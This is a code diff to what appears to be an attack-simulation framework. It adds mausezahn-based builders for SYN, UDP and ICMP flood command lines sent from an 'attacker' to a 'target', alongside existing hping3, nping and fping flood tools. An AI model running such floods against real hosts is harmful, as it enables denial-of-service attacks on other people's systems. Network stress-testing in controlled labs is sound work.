@@ -37,6 +37,13 @@ def _nping(s: Strike, *mode: str, rate: float) -> list[str]:
     ]
 
 
+def _mausezahn(s: Strike, kind: str, packet: str, *, rate: float, size: int = 0) -> list[str]:
+    pause = max(int(1e6 / min(rate, MOST_PACKETS_PER_S)), 500)
+    ends = ["-A", s.attacker.address, "-B", s.address, "-a", s.attacker.mac, "-b", s.target.mac]
+    pace = ["-c", str(s.count(rate)), "-d", f"{pause}usec"]
+    return ["mausezahn", "eth0", "-q", *pace, *(["-p", str(size)] if size else []), *ends, "-t", kind, packet]
+
+
 @tool("flood.syn", package="hping3")
 def hping3_syn(
     s: Strike,
@@ -76,6 +83,12 @@ def nping_syn(s: Strike, *, port: int = 80, rate: float = 200.0) -> list[str]:
     return _nping(s, "--tcp", "--flags", "syn", "-p", str(port), rate=rate)
 
 
+@tool("flood.syn", package="netsniff-ng")
+def mausezahn_syn(s: Strike, *, port: int = 80, rate: float = 200.0, window: int = 1024) -> list[str]:
+    """mausezahn's TCP packets, each from the next port."""
+    return _mausezahn(s, "tcp", f"dp={port},sp=1024-65000,flags=syn,win={window}", rate=rate)
+
+
 @tool("flood.udp", package="hping3")
 def hping3_udp(
     s: Strike, *, port: int = 53, rate: float = 300.0, size: int = 120, spoof: str = "", keep: bool = False
@@ -104,6 +117,14 @@ def own_udp(s: Strike, *, port: int = 0, rate: float = 300.0, size: int = 512, s
 def nping_udp(s: Strike, *, port: int = 161, rate: float = 200.0, size: int = 64) -> list[str]:
     """nping's UDP mode."""
     return _nping(s, "--udp", "-p", str(port), "--data-length", str(size), rate=rate)
+
+
+@tool("flood.udp", package="netsniff-ng")
+def mausezahn_udp(
+    s: Strike, *, port: int = 53, rate: float = 200.0, size: int = 200, one: bool = False
+) -> list[str]:
+    """mausezahn's UDP datagrams, each from the next port, or with `one` all from one."""
+    return _mausezahn(s, "udp", f"dp={port},sp={'4000' if one else '1024-65000'}", rate=rate, size=size)
 
 
 @tool("flood.icmp", package="hping3")
@@ -164,3 +185,9 @@ def fping_flood(s: Strike, *, rate: float = 200.0, size: int = 56) -> list[str]:
         str(s.count(rate)),
         s.address,
     ]
+
+
+@tool("flood.icmp", package="netsniff-ng")
+def mausezahn_icmp(s: Strike, *, rate: float = 200.0) -> list[str]:
+    """mausezahn's echo requests."""
+    return _mausezahn(s, "icmp", "ping", rate=rate)
